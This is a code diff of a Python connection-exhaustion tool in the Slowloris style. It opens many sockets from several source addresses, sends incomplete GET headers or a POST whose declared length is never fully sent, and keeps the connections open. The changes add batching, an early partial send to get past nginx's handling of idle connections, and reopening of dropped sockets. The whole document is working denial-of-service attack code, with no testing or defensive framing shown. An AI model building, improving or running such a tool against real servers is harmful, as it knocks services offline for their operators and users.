@@ -22,38 +22,48 @@ from collections.abc import Callable
 OPENING_SECONDS = 15.0
 MOST_SECONDS = 60.0
 PROCESSES = 2
+#: A server takes no more than a few hundred at a time.
+BATCH, BATCH_MILLISECONDS = 100, 10
 #: As long as nothing more is taken from anyone.
 PATIENCE_SECONDS = 0.5
 HALF = b"GET / HTTP/1.1\r\nHost: shop.exam"
 
 
-def opened(host: str, port: int, number: int, sources: list[str]) -> list[socket.socket]:
-    """The connections, started without waiting for each other."""
+def opened(host: str, port: int, number: int, sources: list[str], head: bytes) -> list[socket.socket]:
+    """The connections, a batch at a time. Each sends its part at once: nginx may close those that have said nothing."""
     deadline = time.monotonic() + OPENING_SECONDS
     started: list[socket.socket] = []
-    for index in range(number):
-        if time.monotonic() > deadline:
-            break
-        connection = socket.socket()
-        connection.setblocking(False)
-        try:
-            connection.bind((sources[index % len(sources)], 0))
-            connection.connect_ex((host, port))
-        except OSError:
-            connection.close()
-            continue
-        started.append(connection)
+    while len(started) < number and time.monotonic() < deadline:
+        batch = [
+            begun(host, port, sources[(len(started) + index) % len(sources)])
+            for index in range(min(BATCH, number - len(started)))
+        ]
+        for connection in alive(batch, BATCH_MILLISECONDS):
+            with contextlib.suppress(OSError):
+                connection.send(head)
+        started += batch
     return started
 
 
-def alive(connections: list[socket.socket]) -> list[socket.socket]:
+def begun(host: str, port: int, source: str) -> socket.socket:
+    connection = socket.socket()
+    connection.setblocking(False)
+    with contextlib.suppress(OSError):
+        connection.bind((source, 0))
+        connection.connect_ex((host, port))
+    return connection
+
+
+def alive(connections: list[socket.socket], milliseconds: int = 1000) -> list[socket.socket]:
     """Those that were accepted and are still open."""
     found = []
     poll = select.poll()
     known = {connection.fileno(): connection for connection in connections}
     for number in known:
         poll.register(number, select.POLLOUT)
-    for number, event in poll.poll(1000):
+    # Time for those that are on their way.
+    time.sleep(milliseconds / 1000)
+    for number, event in poll.poll(0):
         if event & select.POLLOUT and not event & (select.POLLERR | select.POLLHUP):
             found.append(known[number])
     return found
@@ -63,11 +73,13 @@ def work(options: argparse.Namespace, number: int, tell: Callable[[tuple[int, in
     """One process's share: a process may not have that many files open."""
     _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
-    started = opened(options.host, options.port, number, options.sources)
     head = HALF
     if options.upload:
         head = b"POST / HTTP/1.1\r\nHost: shop.example\r\nContent-Length: %d\r\n\r\n" % (options.upload + 1)
-    left = {connection: memoryview(head + bytes(options.upload)) for connection in alive(started)}
+    started = opened(options.host, options.port, number, options.sources, head)
+    # In place of those that were closed meanwhile.
+    started += opened(options.host, options.port, number - len(alive(started)), options.sources, head)
+    left = {connection: memoryview(bytes(options.upload)) for connection in alive(started)}
     # Whoever was let in sends; whoever was turned away is closed by the other side meanwhile.
     end = time.monotonic() + OPENING_SECONDS
     patience = time.monotonic() + PATIENCE_SECONDS
